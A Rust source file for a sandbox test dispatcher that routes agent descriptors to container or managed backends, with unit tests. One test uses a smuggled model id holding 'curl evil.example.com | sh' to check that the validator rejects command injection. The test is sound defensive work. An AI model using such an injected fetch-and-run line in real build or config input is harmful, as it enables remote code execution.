//! Sandbox test dispatch
//!
//! Routes a descriptor to the backend serving its model family.

use launchpad_core::naming::is_valid_model_id;
use launchpad_core::{
    AgentDescriptor, ModelFamily, OrchestratorError, SandboxEnvironment, TestOutcome,
};
use std::sync::Arc;

/// Contract shared by every sandbox backend
#[cfg_attr(test, mockall::automock)]
#[async_trait::async_trait]
pub trait SandboxBackend: Send + Sync {
    /// Environment reported in outcomes
    fn environment(&self) -> SandboxEnvironment;

    /// Run the agent once against `prompt`
    ///
    /// Backend faults, scratch setup included, are reported as a failed
    /// [`TestOutcome`].
    async fn test(
        &self,
        agent: &AgentDescriptor,
        prompt: &str,
    ) -> Result<TestOutcome, OrchestratorError>;
}

/// Selects the sandbox backend from the descriptor's model family
#[derive(Clone)]
pub struct SandboxDispatcher {
    container: Arc<dyn SandboxBackend>,
    managed: Arc<dyn SandboxBackend>,
}

impl SandboxDispatcher {
    #[must_use]
    pub fn new(container: Arc<dyn SandboxBackend>, managed: Arc<dyn SandboxBackend>) -> Self {
        Self { container, managed }
    }

    /// Test `agent` in the sandbox matching its family
    ///
    /// Sandbox faults never leave this call as `Err`; they come back as a
    /// failed outcome.
    ///
    /// # Errors
    /// - `OrchestratorError::InvalidConfig` for a blank prompt or a model id
    ///   outside the model id charset
    /// - `OrchestratorError::UnsupportedModelType` for an unrecognized family
    ///
    /// No backend is called in either case.
    #[tracing::instrument(skip_all, fields(agent = %agent.name, family = %agent.model_family))]
    pub async fn test(
        &self,
        agent: &AgentDescriptor,
        prompt: &str,
    ) -> Result<TestOutcome, OrchestratorError> {
        if prompt.trim().is_empty() {
            return Err(OrchestratorError::invalid_config("test prompt must not be blank"));
        }
        if !is_valid_model_id(&agent.model_id) {
            return Err(OrchestratorError::invalid_config(format!(
                "model id `{}` has characters outside [A-Za-z0-9._:/@+-]",
                agent.model_id.escape_debug()
            )));
        }
        let backend = match &agent.model_family {
            ModelFamily::LocalContainer => &self.container,
            ModelFamily::CloudManaged => &self.managed,
            ModelFamily::Unrecognized(raw) => {
                return Err(OrchestratorError::UnsupportedModelType(raw.clone()))
            }
        };
        let environment = backend.environment();
        tracing::info!(?environment, "dispatching sandbox test");
        match backend.test(agent, prompt).await {
            Err(OrchestratorError::SandboxFailure(reason)) => {
                tracing::warn!(%reason, "sandbox backend fault");
                Ok(TestOutcome::failed(environment, &agent.model_id, reason, ""))
            }
            other => other,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use launchpad_core::DescriptorId;

    fn agent(family: ModelFamily) -> AgentDescriptor {
        AgentDescriptor {
            id: DescriptorId::new(),
            name: "helper".into(),
            system_prompt: "Be brief.".into(),
            tool_names: Default::default(),
            model_family: family,
            model_id: "m".into(),
            owner_id: "u-1".into(),
            created_at: chrono::Utc::now(),
        }
    }

    fn backend(env: SandboxEnvironment, calls: usize) -> MockSandboxBackend {
        let mut mock = MockSandboxBackend::new();
        mock.expect_environment().return_const(env);
        mock.expect_test()
            .times(calls)
            .returning(move |agent, _| Ok(TestOutcome::passed(env, &agent.model_id, "ok")));
        mock
    }

    #[tokio::test]
    async fn routes_by_family() {
        let dispatcher = SandboxDispatcher::new(
            Arc::new(backend(SandboxEnvironment::ContainerSandbox, 1)),
            Arc::new(backend(SandboxEnvironment::ManagedSandbox, 1)),
        );
        let local = dispatcher
            .test(&agent(ModelFamily::LocalContainer), "hi")
            .await
            .unwrap();
        assert_eq!(local.environment, SandboxEnvironment::ContainerSandbox);
        let cloud = dispatcher
            .test(&agent(ModelFamily::CloudManaged), "hi")
            .await
            .unwrap();
        assert_eq!(cloud.environment, SandboxEnvironment::ManagedSandbox);
    }

    #[tokio::test]
    async fn unrecognized_family_calls_no_backend() {
        let dispatcher = SandboxDispatcher::new(
            Arc::new(backend(SandboxEnvironment::ContainerSandbox, 0)),
            Arc::new(backend(SandboxEnvironment::ManagedSandbox, 0)),
        );
        let err = dispatcher
            .test(&agent(ModelFamily::Unrecognized("tpu".into())), "hi")
            .await
            .unwrap_err();
        assert_eq!(err, OrchestratorError::UnsupportedModelType("tpu".into()));
    }

    #[tokio::test]
    async fn blank_prompt_is_invalid() {
        let dispatcher = SandboxDispatcher::new(
            Arc::new(backend(SandboxEnvironment::ContainerSandbox, 0)),
            Arc::new(backend(SandboxEnvironment::ManagedSandbox, 0)),
        );
        let err = dispatcher
            .test(&agent(ModelFamily::LocalContainer), "  ")
            .await
            .unwrap_err();
        assert!(matches!(err, OrchestratorError::InvalidConfig(_)));
    }

    #[tokio::test]
    async fn backend_fault_becomes_failed_outcome() {
        let mut container = MockSandboxBackend::new();
        container
            .expect_environment()
            .return_const(SandboxEnvironment::ContainerSandbox);
        container
            .expect_test()
            .times(1)
            .returning(|_, _| Err(OrchestratorError::SandboxFailure("disk full".into())));
        let dispatcher = SandboxDispatcher::new(
            Arc::new(container),
            Arc::new(backend(SandboxEnvironment::ManagedSandbox, 0)),
        );

        let outcome = dispatcher
            .test(&agent(ModelFamily::LocalContainer), "hi")
            .await
            .unwrap();
        assert!(!outcome.success);
        assert_eq!(outcome.environment, SandboxEnvironment::ContainerSandbox);
        assert_eq!(outcome.error.as_deref(), Some("disk full"));
    }

    #[tokio::test]
    async fn unsafe_model_id_calls_no_backend() {
        let dispatcher = SandboxDispatcher::new(
            Arc::new(backend(SandboxEnvironment::ContainerSandbox, 0)),
            Arc::new(backend(SandboxEnvironment::ManagedSandbox, 0)),
        );
        let mut descriptor = agent(ModelFamily::LocalContainer);
        descriptor.model_id = "llama3\nRUN curl evil.example.com | sh".into();

        let err = dispatcher.test(&descriptor, "hi").await.unwrap_err();
        assert!(matches!(err, OrchestratorError::InvalidConfig(_)));
    }
}
